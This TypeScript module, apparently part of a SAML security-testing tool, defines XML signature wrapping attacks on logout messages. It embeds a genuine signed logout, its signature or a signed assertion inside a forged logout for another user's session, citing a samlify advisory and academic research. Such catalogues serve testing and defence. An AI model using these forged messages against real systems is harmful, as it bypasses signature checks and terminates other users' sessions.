import { namespaces } from '../../../saml/vocabulary.ts';
import type { Text } from '../../attack.ts';
import { idOf } from '../../attacks/forged.ts';
import { forgedPerson } from '../../forge/people.ts';
import { afterIssuer, append, takeSignature, withId } from '../../forge/pieces.ts';
import type { LogoutVariant } from '../logout-attack.ts';
import { type LogoutForge, signMessage } from '../logout-forge.ts';
import { logoutAttackOf, postOnly, words } from './logout-of.ts';
import { ownSession } from './own-session.ts';

/** What the attacker has: a genuine logout of an own session, its parts, and a forged one. */
interface Material {
  readonly signed: string;
  readonly signature: string;
  readonly withoutSignature: string;
  /** For the session of somebody else. */
  readonly forged: string;
}

const extensions = (markup: string): string =>
  `<saml2p:Extensions xmlns:saml2p="${namespaces.protocol}">${markup}</saml2p:Extensions>`;
const object = (markup: string): string => `<ds:Object>${markup}</ds:Object>`;

/** Both forms of ID for one way to put the parts. */
const arranged = (forge: LogoutForge, arrange: (parts: Material) => string): readonly LogoutVariant[] =>
  [words('eigene Kennung', 'ID of its own'), words('gleiche Kennung', 'same ID')].map(
    (name, index): LogoutVariant => ({
      name,
      craft(session) {
        const signed = signMessage(forge, forge.request(ownSession(forge)));
        const { without, signature } = takeSignature(signed);
        const request = forge.request(session);
        const forged = index === 0 ? request : withId(request, idOf(signed));
        const xml = arrange({ signed, signature, withoutSignature: without, forged });
        return forge.write('post', xml, { signing: 'none' });
      },
    }),
  );

/** An assertion that the provider has signed for the attacker, inside a forged logout. */
const withAssertion = (
  forge: LogoutForge,
  name: Text,
  place: (forged: string, signed: string) => string,
): LogoutVariant => ({
  name,
  craft(session) {
    const { xml } = forge.facts.signedAssertion(session.login, forgedPerson);
    return forge.write('post', place(forge.request(session), xml), { signing: 'none' });
  },
});

const attack = logoutAttackOf({ bindings: postOnly });
const samlify = 'github.com/tngan/samlify, Issue 634 (GHSA-63ch-w8pw-4mf2)';

/** XML signature wrapping of logouts. */
export const logoutWrappingAttacks = [
  attack({
    id: 'logout-wrapped-inside',
    title: {
      de: 'Echte Nachricht in der gefälschten Abmeldung',
      en: 'Genuine message inside the forged logout',
    },
    references: [samlify],
    variants: (forge) => [
      ...arranged(forge, ({ forged, signed }) => afterIssuer(forged, extensions(signed))),
      ...arranged(forge, ({ forged, signed }) => append(forged, signed)),
      withAssertion(forge, words('Assertion einer Anmeldung', 'assertion of a login'), append),
      withAssertion(
        forge,
        words('Assertion in den Erweiterungen', 'assertion in the extensions'),
        (to, one) => afterIssuer(to, extensions(one)),
      ),
    ],
  }),
  attack({
    id: 'logout-wrapped-in-signature',
    title: {
      de: 'Echte Abmeldung in der Signatur der gefälschten',
      en: 'Genuine logout inside the signature of the forged one',
    },
    references: [samlify, 'Somorovsky u. a.: On Breaking SAML (USENIX Security 2012)'],
    variants: (forge) => [
      ...arranged(forge, ({ forged, signature, withoutSignature }) =>
        afterIssuer(forged, append(signature, withoutSignature)),
      ),
      ...arranged(forge, ({ forged, signature, withoutSignature }) =>
        afterIssuer(forged, append(signature, object(withoutSignature))),
      ),
      ...arranged(forge, ({ forged, signature, withoutSignature }) =>
        afterIssuer(forged, withoutSignature + signature),
      ),
    ],
  }),
];
